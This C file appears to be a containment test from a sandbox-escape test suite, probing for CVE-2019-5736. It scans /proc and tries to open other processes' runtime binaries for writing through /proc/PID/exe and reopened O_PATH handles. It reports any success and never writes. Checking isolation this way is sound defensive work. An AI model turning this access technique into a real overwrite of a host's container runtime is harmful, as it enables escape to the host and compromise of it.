/* CVE-2019-5736: opens the runtime's own program file for writing through /proc/PID/exe. For argument 1 seconds it
 * watches every process; the harness meanwhile starts scripts whose interpreter is /proc/self/exe, which would make the
 * sandbox's init execute itself as the guest. Nothing is ever written. */
#include "guest.h"
#include <dirent.h>

static struct stat own;

static void attack(const char *name)
{
    const int flags[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND};
    char path[512];
    struct stat info;
    snprintf(path, sizeof path, "/proc/%s/exe", name);
    for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
        int fd = open(path, flags[i] | O_CLOEXEC);
        attempts++;
        if (fd >= 0 && fstat(fd, &info) == 0 && (info.st_ino != own.st_ino || info.st_dev != own.st_dev))
            escaped("opened the program of process %s for writing", name);
        if (fd >= 0)
            close(fd);
    }
    /* A handle without access rights, opened again later, once the program no longer runs. */
    int handle = open(path, O_PATH | O_CLOEXEC);
    if (handle < 0)
        return;
    if (fstat(handle, &info) == 0 && (info.st_ino != own.st_ino || info.st_dev != own.st_dev)) {
        char again[64];
        snprintf(again, sizeof again, "/proc/self/fd/%d", handle);
        int fd = open(again, O_WRONLY | O_CLOEXEC);
        if (fd >= 0)
            escaped("opened the program of process %s for writing through a handle", name);
        if (errno == ETXTBSY)
            escape_found("the program of process %s is only kept by being busy", name);
    }
    close(handle);
}

int main(int argc, char **argv)
{
    double end = seconds_now() + (double)number(argc, argv, 1, 0);
    if (stat("/proc/self/exe", &own) != 0)
        contained("its own program cannot be named: %s", strerror(errno));
    do {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;)
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
                attack(entry->d_name);
        if (proc != NULL)
            closedir(proc);
    } while (seconds_now() < end && escapes == 0);
    return verdict();
}
